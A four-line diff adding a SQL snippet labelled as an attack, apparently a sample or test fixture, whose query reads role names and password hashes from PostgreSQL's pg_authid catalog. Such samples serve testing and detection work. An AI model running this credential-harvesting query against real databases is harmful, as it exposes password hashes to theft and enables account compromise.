@@ -1,0 +1,4 @@
+-- name: collect-pg-authid
+-- table: victim
+-- Attack reads password hashes.
+SELECT rolname, rolpassword FROM pg_authid;
